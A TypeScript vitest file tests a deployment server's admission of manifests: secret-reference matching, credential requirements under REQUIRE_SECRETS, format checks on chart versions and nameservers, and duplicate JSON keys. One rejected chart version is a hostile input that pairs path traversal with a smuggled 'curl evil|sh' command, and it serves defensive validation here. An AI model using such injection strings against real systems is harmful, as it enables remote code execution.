// Admission of secrets and formats (issue 13, items 7 and 8): the `secrets` block must match the
// secretRefs the manifest names (no unrelated names, unknown keys or empty values); a plan without
// the credentials it needs is refused when an executor would apply it (REQUIRE_SECRETS, or any
// EXECUTOR but none) and otherwise accepted as "plan only: no credentials". Chart versions,
// nameservers, building blocks and the root object follow their formats; every 400 names a path.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { secretNeeds, secretProblems } from '../../server/manifest-check';
import type { SovereignManifest } from '../../src/shared/schemas/manifest';
import { PLANTED_TOKEN, validManifest } from './fixtures';
import { startServer, submit, type TestServer } from './harness';

type Problem = { path: string; message: string };

let t: TestServer;
let strict: TestServer;
beforeAll(async () => {
  [t, strict] = await Promise.all([startServer(), startServer({ env: { REQUIRE_SECRETS: '1' } })]);
});
afterAll(() => Promise.all([t.close(), strict.close()]));

const withoutSecrets = (name: string): SovereignManifest => {
  const { secrets: _s, ...m } = validManifest(name);
  return m;
};

async function problemsOf(server: TestServer, body: unknown): Promise<Problem[]> {
  const res = await submit(server.url, JSON.stringify(body));
  const text = await res.text();
  expect(res.status, text).toBe(400);
  const json = JSON.parse(text) as { error: string; problems: Problem[] };
  expect(json.error).toBe('invalid_manifest');
  expect(text).not.toContain(PLANTED_TOKEN);
  return json.problems;
}

async function final(server: TestServer, id: string) {
  await server.server.pipeline.idle();
  return (await (await fetch(`${server.url}/api/v1/deployments/${id}`)).json()) as {
    status: string;
    statusMessage: string;
  };
}

describe('secrets when no executor applies the plan (EXECUTOR=none)', () => {
  it('accepts a plan with all its credentials, without a "plan only" notice', async () => {
    const res = await submit(t.url, JSON.stringify(validManifest('complete')));
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: string };
    const d = await final(t, id);
    expect(d.status).toBe('ready-to-apply');
    expect(d.statusMessage).not.toMatch(/plan only/i);
  });

  it('accepts a plan without credentials and says "plan only: no credentials" until the end', async () => {
    const res = await submit(t.url, JSON.stringify(withoutSecrets('bare')));
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: string };
    const d = await final(t, id);
    expect(d.status).toBe('ready-to-apply');
    expect(d.statusMessage).toMatch(
      /^Plan only: no credentials for provider-credentials, cold-tier-credentials\. The plan is ready/,
    );
    const events = await t.server.repo.listEvents(id, 0, 100);
    const notice = events.find((e) => e.phase === 'validate' && e.level === 'warn');
    expect(notice?.message).toMatch(
      /^Plan only: no credentials for provider-credentials, cold-tier-credentials \(no executor/,
    );
    expect(events.find((e) => e.phase === 'ready')?.message).toMatch(/^Plan only/);
  });

  it('names only the Secrets that are missing', async () => {
    const m = validManifest('half');
    delete m.secrets?.['cold-tier-credentials'];
    const res = await submit(t.url, JSON.stringify(m));
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: string };
    const d = await final(t, id);
    expect(d.statusMessage).toMatch(/^Plan only: no credentials for cold-tier-credentials\. /);
  });

  it.each([
    [
      'an empty token',
      (m: SovereignManifest) => (m.secrets!['provider-credentials'] = { token: '' }),
      'secrets.provider-credentials.token',
      /empty/,
    ],
    [
      'a blank token',
      (m: SovereignManifest) => (m.secrets!['provider-credentials'] = { token: '  \t ' }),
      'secrets.provider-credentials.token',
      /empty/,
    ],
    [
      'a secret the manifest does not reference',
      (m: SovereignManifest) => (m.secrets!['unrelated'] = { token: PLANTED_TOKEN }),
      'secrets.unrelated',
      /not referenced by the manifest/,
    ],
    [
      'an unknown key',
      (m: SovereignManifest) => (m.secrets!['provider-credentials']!.password = PLANTED_TOKEN),
      'secrets.provider-credentials.password',
      /unknown key: expected token/,
    ],
    [
      'a Secret without one of its keys',
      (m: SovereignManifest) =>
        (m.secrets!['cold-tier-credentials'] = { accessKeyId: 'AKIACOLDACCESSKEY0001' }),
      'secrets.cold-tier-credentials.secretAccessKey',
      /required/,
    ],
  ])('refuses %s with a 400 naming secrets.<name>.<key>', async (_what, change, path, message) => {
    const m = validManifest('refused');
    change(m);
    const problems = await problemsOf(t, m);
    expect(problems).toContainEqual({ path, message: expect.stringMatching(message) });
    expect(problems.every((p) => p.path.startsWith('secrets.'))).toBe(true);
  });
});

describe('secrets when an executor would apply the plan (REQUIRE_SECRETS=1)', () => {
  it('refuses a plan without credentials, naming every needed key', async () => {
    const problems = await problemsOf(strict, withoutSecrets('bare'));
    expect(problems.map((p) => p.path).sort()).toEqual([
      'secrets.cold-tier-credentials.accessKeyId',
      'secrets.cold-tier-credentials.secretAccessKey',
      'secrets.provider-credentials.token',
    ]);
    expect(problems[0]?.message).toMatch(/executor/);
  });

  it('accepts a plan with all its credentials', async () => {
    const res = await submit(strict.url, JSON.stringify(validManifest('complete')));
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: string };
    expect((await final(strict, id)).statusMessage).not.toMatch(/plan only/i);
  });

  it('is the default for any executor but none (config)', async () => {
    const { loadConfig } = await import('../../server/config');
    expect(loadConfig({}).requireSecrets).toBe(false);
    expect(loadConfig({ REQUIRE_SECRETS: '1' }).requireSecrets).toBe(true);
    expect(() => loadConfig({ REQUIRE_SECRETS: 'yes' })).toThrow(/REQUIRE_SECRETS/);
  });
});

describe('secretNeeds and secretProblems', () => {
  it('needs a registrar token in byo-api mode only, and allows the Blueprint pull secret', () => {
    const m = validManifest('needs');
    expect([...secretNeeds(m).keys()].sort()).toEqual([
      'cold-tier-credentials',
      'ghcr-pull',
      'provider-credentials',
    ]);
    const byo = structuredClone(m);
    byo.spec.dns = {
      ...byo.spec.dns,
      mode: 'byo-api',
      registrar: 'cloudflare',
      registrarSecretRef: { name: 'registrar-credentials' },
    } as SovereignManifest['spec']['dns'];
    expect([...(secretNeeds(byo).get('registrar-credentials')?.required ?? [])]).toEqual(['token']);
    expect(secretProblems(byo, true)).toEqual([
      {
        path: 'secrets.registrar-credentials.token',
        message: 'required: the configured executor applies this plan with it',
      },
    ]);
    expect(secretProblems(byo, false)).toEqual([]);
    byo.secrets = { ...byo.secrets, 'ghcr-pull': { username: 'bot', password: 'pat-123' } };
    expect(secretProblems(byo, false)).toEqual([]);
  });
});

describe('format rules over the API', () => {
  const at = (m: SovereignManifest, id: string) => m.spec.components.findIndex((c) => c.id === id);

  it.each(['../../etc/passwd"; curl evil|sh', 'NaN', '1.2.3 ', ' 1.2.3', '1.2 .3', '', 'latest'])(
    'refuses the chart version %j, naming spec.components[i].version',
    async (version) => {
      const m = validManifest('versions');
      const i = m.spec.components.findIndex((c) => c.version !== null);
      m.spec.components[i]!.version = version;
      const problems = await problemsOf(t, m);
      expect(problems).toContainEqual({
        path: `spec.components[${i}].version`,
        message: expect.stringMatching(/chart version/),
      });
    },
  );

  it('refuses a nameserver that is not a DNS host name', async () => {
    const m = validManifest('ns');
    m.spec.dns.nameservers = ['ns1.openova.io', 'ns2 openova.io', 'http://ns3.openova.io'];
    const problems = await problemsOf(t, m);
    expect(problems.map((p) => p.path)).toEqual(
      expect.arrayContaining(['spec.dns.nameservers[1]', 'spec.dns.nameservers[2]']),
    );
    expect(problems.some((p) => p.path === 'spec.dns.nameservers[0]')).toBe(false);
  });

  it('refuses a building block listed twice in a region', async () => {
    const m = validManifest('blocks');
    const region = m.spec.infrastructure.regions[0]!;
    region.buildingBlocks = [...region.buildingBlocks, region.buildingBlocks[0]!];
    const problems = await problemsOf(t, m);
    expect(problems).toContainEqual({
      path: `spec.infrastructure.regions[0].buildingBlocks[${region.buildingBlocks.length - 1}]`,
      message: expect.stringMatching(/listed twice/),
    });
  });

  it('refuses an unknown top-level field, and still accepts $schema', async () => {
    const problems = await problemsOf(t, { ...validManifest('root'), extra: { a: 1 } });
    expect(problems).toContainEqual({ path: '(root)', message: 'Unrecognized key: "extra"' });
    const res = await submit(
      t.url,
      JSON.stringify({ $schema: '/schema/sovereign-v1alpha1.json', ...validManifest('root') }),
    );
    expect(res.status).toBe(201);
    expect(at(validManifest('x'), 'cilium')).toBeGreaterThanOrEqual(0);
  });
});

describe('duplicate keys in JSON bodies', () => {
  it('are refused with the path of the repeated key, like YAML ones', async () => {
    const text = JSON.stringify(validManifest('dup')).replace(
      '"mode":"pool"',
      '"mode":"pool","mode":"byo-manual"',
    );
    expect(text).toContain('"mode":"byo-manual"');
    const res = await submit(t.url, text);
    expect(res.status).toBe(400);
    const body = (await res.json()) as { problems: Problem[] };
    expect(body.problems).toEqual([
      { path: 'spec.dns.mode', message: expect.stringMatching(/"mode" appears twice \(at line 1/) },
    ]);
  });

  it('finds repeats after unescaping, ignores look-alikes inside strings', async () => {
    const { jsonDuplicateKey } = await import('../../server/manifest-check');
    expect(jsonDuplicateKey('{"a":1,"\\u0061":2}')?.path).toBe('a');
    expect(jsonDuplicateKey('{"x":[{"k":1},{"k":2,"k":3}]}')?.path).toBe('x[1].k');
    expect(jsonDuplicateKey('{"a b":{"q\\"":1,"q\\"":2}}')?.path).toBe('["a b"]["q\\""]');
    expect(jsonDuplicateKey('{"a":"{\\"a\\":1,\\"a\\":2}","b":["a","a"],"c":{"a":1}}')).toBeNull();
    expect(jsonDuplicateKey('[1,2,{"a":1}]')).toBeNull();
  });
});
